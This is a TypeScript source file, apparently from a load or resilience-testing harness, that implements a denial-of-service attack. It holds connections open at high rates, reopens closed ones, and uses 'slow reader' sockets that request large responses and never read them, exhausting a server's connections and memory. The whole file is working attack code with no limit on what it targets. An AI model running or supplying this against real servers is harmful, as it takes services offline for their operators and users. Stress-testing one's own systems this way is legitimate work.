// Connections that are opened and held: each sends one cheap request and then stays open. Slow readers request large answers
// and read none of them. Closed connections are reopened, two hundred times a second: this is about who holds
// connections. A flood of new ones can only be stopped by the kernel's filters.

import { connect, type Socket } from 'node:net'
import { setTimeout as wait } from 'node:timers/promises'
import { rawBytes } from '../../load/caller.ts'
import { shapeNamed } from '../shapes/all-shapes.ts'
import type { AttackPlan } from './plan.ts'

const tickMs = 10
/** So many are opened in one tick: at first as fast as a server can take them, and then those that were closed. */
const openPerTick = 100
const reopenPerTick = 2
const slowRequests = 90

export async function exhaust(
  url: URL,
  seconds: number,
  plan: Extract<AttackPlan, { kind: 'exhaust' }>,
): Promise<number> {
  const cheap = Buffer.from(`GET /w/x HTTP/1.1\r\nhost: ${url.host}\r\n\r\n`)
  const expensive = rawBytes(url, shapeNamed('100 assets in each of 10 impressions').make())
  const sockets = new Set<Socket>()
  const wanted = plan.connections + plan.slowReaders
  let opened = 0
  let slow = 0
  let answers = 0

  function open(isSlow: boolean): void {
    const socket = connect({ host: url.hostname, port: Number(url.port), localAddress: plan.source })
    sockets.add(socket)
    opened++
    if (isSlow) {
      slow++
      socket.pause()
      for (let count = 0; count < slowRequests; count++) socket.write(expensive)
    } else {
      socket.once('data', () => answers++)
      socket.write(cheap)
    }
    socket.on('error', () => {})
    socket.on('close', () => {
      sockets.delete(socket)
      if (isSlow) slow--
    })
  }

  const startedMs = performance.now()
  while (performance.now() - startedMs < seconds * 1000) {
    const most = opened < wanted ? openPerTick : reopenPerTick
    for (let count = 0; count < most && sockets.size < wanted; count++) open(slow < plan.slowReaders)
    await wait(tickMs)
  }
  for (const socket of sockets) socket.destroy()
  return answers
}
